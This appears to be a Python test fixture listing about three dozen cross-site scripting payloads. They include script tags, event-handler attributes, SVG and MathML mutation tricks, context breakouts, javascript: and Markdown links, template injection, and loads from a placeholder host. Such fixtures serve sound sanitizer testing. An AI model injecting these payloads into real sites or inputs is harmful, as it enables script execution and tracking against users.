"""Texts that do something where a page takes them for markup.

Each reports to `window.ran`, opens a dialog, or asks another host for something.
"""

from __future__ import annotations

_RUN = "(window.ran=window.ran||[]).push(1)"
_HOST = "http://elsewhere.test"

PAYLOADS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_HOST}/pixel.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data={_HOST}/a.html></object>",
    f"<embed src={_HOST}/a.swf>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>open</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<style>@import '{_HOST}/a.css';</style>",
    f"<link rel=stylesheet href={_HOST}/a.css>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href={_HOST}/>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title></textarea><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"'-{_RUN}-'",
    f"javascript:{_RUN}",
    f"[link](javascript:{_RUN})",
    f"![pixel]({_HOST}/pixel.png)",
    f"<a href=javascript:{_RUN}>click</a>",
    "<script>alert(1)</script>",
    f"--><img src=x onerror={_RUN}><!--",
    f"]]><script>{_RUN}</script>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\u202e<script>{_RUN}</script>",
)
"""Elements and attributes that run or load something, breaks out of others, links, Markdown, entities."""
